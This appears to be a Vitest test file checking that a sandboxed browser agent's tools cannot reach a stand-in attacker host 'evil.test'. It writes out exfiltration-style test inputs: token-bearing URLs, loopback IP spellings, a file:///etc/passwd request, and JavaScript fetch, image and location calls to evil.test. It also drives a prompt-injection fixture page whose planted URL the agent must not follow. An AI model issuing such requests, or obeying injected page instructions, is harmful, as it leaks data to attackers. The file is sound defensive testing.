/**
 * The confinement against what the agent itself does with the browser toolset: its navigate,
 * new tabs, clicks on the attack pages' links (by reference), the URL a prompt injection hands
 * it, javascript_exec when a workflow allows it. Through the real sandbox and the real toolset
 * driver; evil must hear nothing that carries the case's token.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPlaywrightSandbox } from '../../../src/browser/playwright-sandbox.js';
import type { BlockedRequest, BrowserSandbox, BrowserSession } from '../../../src/browser/types.js';
import { createSecretVault } from '../../../src/domain/secrets.js';
import type { ToolResultBlock } from '../../../src/model/types.js';
import { createSilentLogger } from '../../../src/telemetry/logger.js';
import { createActionSpace } from '../../../src/toolset/create.js';
import type { ActionReport, ActionSpace } from '../../../src/toolset/types.js';
import { fixtureUrl, newToken, startHarness, type Harness } from '../../fixtures/confinement/harness.js';
import { neverAborted } from '../../support/env.js';

const silent = createSilentLogger();

let harness: Harness;
let sandbox: BrowserSandbox;

beforeAll(async () => {
  harness = await startHarness({ confined: true });
  sandbox = createPlaywrightSandbox({ logger: silent, hostRules: harness.hostRules });
});

afterAll(async () => {
  await sandbox?.close();
  await harness?.close();
});

interface Agent {
  token: string;
  session: BrowserSession;
  space: ActionSpace;
  blocked: BlockedRequest[];
  call(name: string, input?: Record<string, unknown>): Promise<ActionReport>;
  close(): Promise<void>;
}

async function agent(name: string, allowJavascript = false): Promise<Agent> {
  const blocked: BlockedRequest[] = [];
  const signal = new AbortController().signal;
  const session = await sandbox.openSession({ executionId: name, viewport: { width: 1000, height: 700 }, allowedDomains: ['allowed.test'], onBlocked: (e) => blocked.push(e) }, signal);
  const space = createActionSpace(
    { kind: 'browser', computer: { type: 'computer_toolset_20260801', zoom: true }, images: { maxEdgePx: 2000, maxPixels: 3_750_000 } },
    { session, secrets: createSecretVault(null, undefined), allowJavascript },
  );
  let n = 0;
  return {
    token: newToken(name),
    session,
    space,
    blocked,
    call: (member, input = {}) => space.run({ type: 'tool_use', id: `toolu_${++n}`, name: member, input, toolset_name: 'browser' }, { signal }),
    close: () => session.close(),
  };
}

const text = (result: ToolResultBlock) => result.content.map((b) => (b.type === 'text' ? b.text : '')).join('\n');
const refs = (read: string) => [...read.matchAll(/\[(ref_\d+)\]/g)].map((m) => m[1]!);

/** Runs a case and checks that evil heard nothing of its token. */
async function confined(name: string, run: (a: Agent) => Promise<void>, allowJavascript = false): Promise<void> {
  const a = await agent(name, allowJavascript);
  try {
    await run(a);
    // What the page may still send on its way out (pagehide beacons) meets the layers too.
    await a.close();
    expect(harness.evil.hitsWith(a.token)).toEqual([]);
  } finally {
    await a.close();
  }
}

describe('confinement with the browser toolset', () => {
  it('refuses navigate to evil, to loopback by its IP spellings, and to other schemes', () =>
    confined('toolset-navigate', async (a) => {
      for (const url of [`http://evil.test/nav?t=${a.token}`, `evil.test/bare?t=${a.token}`, `http://127.0.0.1:${harness.evil.port}/ip?t=${a.token}`, `http://2130706433:${harness.evil.port}/int?t=${a.token}`, `file:///etc/passwd?t=${a.token}`, `javascript:fetch('http://evil.test/js?t=${a.token}')`]) {
        const refused = await a.call('navigate', { url });
        expect(refused.ok, url).toBe(false);
      }
      expect(a.blocked.some((b) => b.layer === 'navigate-tool' && b.url.includes('evil.test'))).toBe(true);
    }));

  it('keeps a new tab inside the allow-list', () =>
    confined('toolset-new-tab', async (a) => {
      expect((await a.call('new_tab')).ok).toBe(true);
      expect((await a.call('navigate', { url: `http://evil.test/tab?t=${a.token}` })).ok).toBe(false);
      expect((await a.session.tabs(neverAborted)).map((t) => t.url)).toEqual(['about:blank', 'about:blank']);
    }));

  it('clicks every link and button of the attack pages by reference without reaching evil', async () => {
    for (const page of ['target-blank', 'window-open', 'js-location', 'navigate-to', 'iframe', 'meta-refresh', 'download', 'a-ping', 'css-url']) {
      await confined(`toolset-click-${page}`, async (a) => {
        const opened = await a.call('navigate', { url: fixtureUrl(page, a.token) });
        expect(opened.ok, text(opened.result)).toBe(true);
        for (const ref of refs(text((await a.call('read_page', { filter: 'all' })).result))) {
          // References of a page that navigated away are stale: refused, which is fine here.
          await a.call('left_click', { target: { type: 'ref', ref } });
          await a.call('switch_tab', { tab_id: 'tab_1' });
        }
        // Popups to evil are closed: only the agent's own tab is left.
        expect((await a.session.tabs(neverAborted)).every((t) => !t.url.includes('evil.test'))).toBe(true);
      });
    }
  });

  it('does not follow a prompt injection: its URL is refused, its link is refused, and the model is told', () =>
    confined('toolset-injection', async (a) => {
      await a.call('navigate', { url: fixtureUrl('prompt-injection', a.token) });
      const pageText = text((await a.call('get_page_text')).result);
      const injected = /https?:\/\/\S+/.exec(pageText)?.[0] ?? '';
      expect(injected).toContain(a.token);
      expect((await a.call('navigate', { url: injected })).ok).toBe(false);
      const link = text((await a.call('find', { query: 'continue link' })).result);
      const clicked = await a.call('left_click', { target: { type: 'ref', ref: refs(link)[0]! } });
      const after = await a.call('get_page_text');
      expect(`${text(clicked.result)}\n${text(after.result)}`).toContain('A navigation was refused.');
    }));

  it('javascript_exec, when a workflow allows it, runs with the page and meets the same layers', () =>
    confined(
      'toolset-script',
      async (a) => {
        await a.call('navigate', { url: fixtureUrl('blank', a.token) });
        const tries = [
          `fetch('http://evil.test/fetch?t=${a.token}').then(() => 'reached', (e) => 'refused: ' + e.message)`,
          `new Promise((resolve) => { const i = new Image(); i.onload = () => resolve('reached'); i.onerror = () => resolve('refused'); i.src = 'http://evil.test/img?t=${a.token}'; })`,
          `(location.href = 'http://evil.test/loc?t=${a.token}', 'sent')`,
        ];
        for (const expression of tries) {
          const out = await a.call('javascript_exec', { text: expression });
          expect(text(out.result)).not.toContain('reached');
        }
        const network = text((await a.call('read_network')).result);
        expect(network).toContain('refused');
      },
      true,
    ));
});
